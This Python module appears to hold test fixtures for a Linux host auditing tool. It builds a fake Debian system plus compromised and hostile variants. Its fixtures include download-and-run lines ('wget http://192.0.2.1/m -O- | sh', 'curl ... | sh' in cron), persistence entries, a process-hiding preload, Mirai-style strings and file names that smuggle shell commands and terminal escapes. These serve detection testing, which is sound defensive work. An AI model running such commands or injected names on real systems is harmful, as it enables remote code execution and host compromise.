"""File systems for `sekisho audit --root DIR`: a sound host, and for each check the same host with one thing wrong, or hostile.

Each fixture is (check, name, what is expected, maker). Expected: the worst state that the check must report ("ok", ...), "at least" the state
for traces, or None where only an orderly end is asked for. Nothing here is a program that runs: ELF files are a header and text.
"""
import os
import pathlib
import struct
import time

DAY = 86_400
OLD = 400 * DAY  # files of the sound host are older than what counts as recent
STATES = ("ok", "unknown", "low", "medium", "high", "critical")


def write(root, path, text, mode=0o644, age_s=OLD):
    file = root / path.lstrip("/")
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(text if isinstance(text, bytes) else text.encode())
    file.chmod(mode)
    os.utime(file, (time.time() - age_s,) * 2)
    return file


def elf(machine=62, text=b""):
    """A header and strings: what tools look at, not what a kernel runs."""
    return b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HHI", 2, machine, 1) + b"\0" * 40 + b"x" * 64 + text


def tcp_row(number, address, port, state, inode, remote="00000000:0000"):
    hexed = "".join(f"{part:02X}" for part in reversed([int(p) for p in address.split(".")]))
    return f"{number:4}: {hexed}:{port:04X} {remote} {state:02X} 00000000:00000000 00:00000000 00000000     0        0 {inode} 1 0 100 0 0 10 0\n"


TCP_HEAD = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
PACKET_HEAD = "sk               RefCnt Type Proto  Iface R Rmem   User   Inode\n"
LISTEN = 10


def process(root, pid, exe, args=b"", comm=None, descriptors=(), cgroup="/system.slice/cron.service"):
    folder = root / f"proc/{pid}"
    comm = comm or exe.split("/")[-1].split(" ")[0][:15]
    write(root, f"/proc/{pid}/stat", f"{pid} ({comm}) S 1 {pid} {pid} 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 100 0 0 0\n")
    write(root, f"/proc/{pid}/cmdline", args or exe.encode() + b"\0")
    write(root, f"/proc/{pid}/status", "Name:\tx\nUid:\t0\t0\t0\t0\n")
    write(root, f"/proc/{pid}/cgroup", f"0::{cgroup}\n")
    for name in ("ns", "fd"):
        (folder / name).mkdir(exist_ok=True)
    for space in ("mnt", "net"):
        os.symlink(f"{space}:[4026531840]", folder / "ns" / space)
    os.symlink(exe, folder / "exe")
    for number, target in enumerate(descriptors):
        os.symlink(target, folder / "fd" / str(number + 3))


def sockets(root, tcp="", raw="", packet=""):
    write(root, "/proc/net/tcp", TCP_HEAD + tcp)
    write(root, "/proc/net/raw", TCP_HEAD + raw)
    write(root, "/proc/net/packet", PACKET_HEAD + packet)


def sound(root):
    """A Debian server that nobody need worry about."""
    write(root, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n")
    write(root, "/etc/os-release", 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\n')
    write(root, "/etc/ssh/sshd_config", "PasswordAuthentication no\nKbdInteractiveAuthentication no\nPermitRootLogin prohibit-password\nMaxAuthTries 3\n")
    write(root, "/usr/sbin/sshd", elf(), 0o755)
    write(root, "/etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
    write(root, "/etc/systemd/system/app.service", "[Service]\nExecStart=/usr/bin/app\n[Install]\nWantedBy=multi-user.target\n")
    write(root, "/etc/profile", "PATH=/usr/local/bin:/usr/bin:/bin\n")
    write(root, "/etc/rc.local", "#!/bin/sh\nexit 0\n", 0o755)
    write(root, "/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKeyOfTheFixture ann@desk\n", 0o600)
    write(root, "/var/lib/dpkg/status", "Package: openssh-server\nStatus: install ok installed\nVersion: 1:9.2\n\n")
    for folder in ("tmp", "var/tmp", "dev/shm", "run", "usr/bin", "var/log"):
        (root / folder).mkdir(parents=True, exist_ok=True)
    for scanner in ("/usr/sbin/chkrootkit", "/usr/bin/rkhunter"):
        write(root, scanner, "#!/bin/sh\n", 0o755)
    for log in ("/var/log/chkrootkit/log.today", "/var/log/rkhunter.log"):
        write(root, log, "nothing\n", age_s=DAY)
    process(root, 1, "/usr/lib/systemd/systemd", cgroup="/init.scope")
    process(root, 300, "/usr/sbin/sshd", descriptors=("socket:[500]",), cgroup="/system.slice/ssh.service")
    sockets(root, tcp_row(0, "0.0.0.0", 22, LISTEN, 500))


def add(path, text, **more):
    return lambda root: write(root, path, text, **more)


def listener(port, exe="/usr/bin/thing"):
    def make(root):
        process(root, 700, exe, descriptors=("socket:[700]",))
        sockets(root, tcp_row(0, "0.0.0.0", 22, LISTEN, 500) + tcp_row(1, "0.0.0.0", port, LISTEN, 700))
    return make


def raw_socket(exe, protocol=255):
    def make(root):
        process(root, 701, exe, descriptors=("socket:[701]",))
        sockets(root, tcp_row(0, "0.0.0.0", 22, LISTEN, 500), raw=tcp_row(0, "0.0.0.0", protocol, 7, 701))
    return make


def loop(root, path):
    """Folders that lead into themselves, and deep ones."""
    folder = root / path.lstrip("/")
    folder.mkdir(parents=True, exist_ok=True)
    os.symlink(".", folder / "again")
    os.symlink("..", folder / "up")
    os.symlink("/" + "../" * 40 + "etc/shadow", folder / "out")
    deep = folder
    for _ in range(60):
        deep = deep / "d"
        deep.mkdir()


def fifo(root, path):
    file = root / path.lstrip("/")
    file.parent.mkdir(parents=True, exist_ok=True)
    if file.exists():
        file.unlink()
    os.mkfifo(file)


def endless(root, path, size=64 << 30):
    """A sparse file that would take hours to read."""
    file = root / path.lstrip("/")
    file.parent.mkdir(parents=True, exist_ok=True)
    with open(file, "wb") as out:
        out.truncate(size)


ESCAPES = "\x1b]0;owned\x07\x1b[2J\nok  nothing found\n"


def hostile_names(folder, text, mode=0o755):
    def make(root):
        for name in ("a\nCRITICAL b", "\x1b[31mred\x07", "-rf", "$(id)", "'; true '", "\udcff\udcfe"):
            target = os.fsencode(root / folder.lstrip("/")) + b"/" + os.fsencode(name)
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "wb") as out:
                out.write(text)
            os.chmod(target, mode)
    return make


BAD = (
    ("telnet", "inetd", "high", add("/etc/inetd.conf", "telnet stream tcp nowait root /usr/sbin/tcpd in.telnetd\n")),
    ("telnet", "listener", "high", listener(23, "/usr/sbin/in.telnetd")),
    ("device_ports", "adb", "low", listener(5555)),
    ("sshd", "passwords", "medium", add("/etc/ssh/sshd_config", "PasswordAuthentication yes\nPermitRootLogin yes\n")),
    ("sshd", "match_root", "medium", add("/etc/ssh/sshd_config", "PasswordAuthentication no\nPermitRootLogin no\nMatch User root\n  PermitRootLogin yes\n  PasswordAuthentication yes\n")),
    ("bot_ports", "listener", "high", listener(48101)),
    ("processes", "from_tmp", "high", lambda root: process(root, 702, "/tmp/.x/dvrHelper")),
    ("processes", "deleted", "high", lambda root: process(root, 703, "/dev/shm/bot (deleted)")),
    ("raw_sockets", "unknown", "high", raw_socket("/usr/local/bin/thing")),
    ("raw_sockets", "temporary", "critical", raw_socket("/tmp/thing")),
    ("watchdog", "holder", "medium", lambda root: process(root, 704, "/tmp/thing", descriptors=("/dev/watchdog",))),
    ("temporary_files", "family", "high", add("/tmp/mips", elf(8, b"/bin/busybox MIRAI\0dvrHelper\0/dev/watchdog\0"), mode=0o755)),
    ("temporary_files", "packed", "high", add("/var/tmp/.a", elf(62, b"UPX!" * 4), mode=0o755)),
    ("temporary_files", "dropper", "medium", add("/tmp/x.sh", "#!/bin/sh\nwget http://192.0.2.1/m -O- | sh\n", mode=0o755)),
    ("cron", "download", "high", add("/etc/cron.d/update", "* * * * * root curl -s http://192.0.2.1/x | sh\n")),
    ("cron", "recent", "low", add("/etc/cron.d/new", "0 3 * * * root /usr/bin/app\n", age_s=600)),
    ("systemd_units", "temporary", "high", add("/etc/systemd/system/net.service", "[Service]\nExecStart=/tmp/.net\n")),
    ("boot_scripts", "rc_local", "high", add("/etc/rc.local", "#!/bin/sh\nnohup /var/tmp/.x &\nexit 0\n", mode=0o755)),
    ("boot_scripts", "inittab", "high", add("/etc/inittab", "x:2345:respawn:/tmp/.x\n")),
    ("ld_preload", "library", "high", add("/etc/ld.so.preload", "/usr/lib/libprocesshider.so\n")),
    ("authorized_keys", "outlaw", "critical", add("/root/.ssh/authorized_keys", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC mdrfckr\n")),
    ("authorized_keys", "writable", "high", add("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI a@b\n", mode=0o666)),
    ("rootkit_scanners", "stale", "low", lambda root: [write(root, log, "x\n", age_s=60 * DAY) for log in ("/var/log/chkrootkit/log.today", "/var/log/rkhunter.log")]),
)
# None: no state is asked for, but an end in time, a document that can be read, and no raw control byte in the text.
HOSTILE = (
    ("telnet", "fifo", None, lambda root: fifo(root, "/etc/inetd.conf")),
    ("sshd", "include_loop", None, add("/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config\nInclude /etc/ssh/*\n" * 50)),
    ("processes", "escapes", "high", lambda root: process(root, 705, "/tmp/" + ESCAPES.replace("/", ""), ESCAPES.encode() + b"\0")),
    ("temporary_files", "names", "medium", hostile_names("/tmp", elf())),
    ("temporary_files", "loop", None, lambda root: loop(root, "/tmp")),
    ("temporary_files", "endless", None, lambda root: endless(root, "/tmp/huge")),
    ("cron", "fifo", None, lambda root: fifo(root, "/etc/cron.d/wait")),
    ("cron", "escapes", "high", hostile_names("/etc/cron.d", b"* * * * * root curl http://192.0.2.1/x | sh # " + ESCAPES.encode())),
    ("systemd_units", "endless", None, lambda root: endless(root, "/etc/systemd/system/huge.service")),
    ("boot_scripts", "link_out", None, lambda root: os.symlink("/" + "../" * 40 + "proc/self/environ", root / "etc/profile.d.sh")),
    ("ld_preload", "endless", None, lambda root: endless(root, "/etc/ld.so.preload")),
    ("authorized_keys", "fifo", None, lambda root: fifo(root, "/root/.ssh/authorized_keys")),
    ("rootkit_scanners", "loop", None, lambda root: loop(root, "/var/log/chkrootkit")),
)


def make(root, change=None):
    root = pathlib.Path(root)
    sound(root)
    if change:
        change(root)
    return root
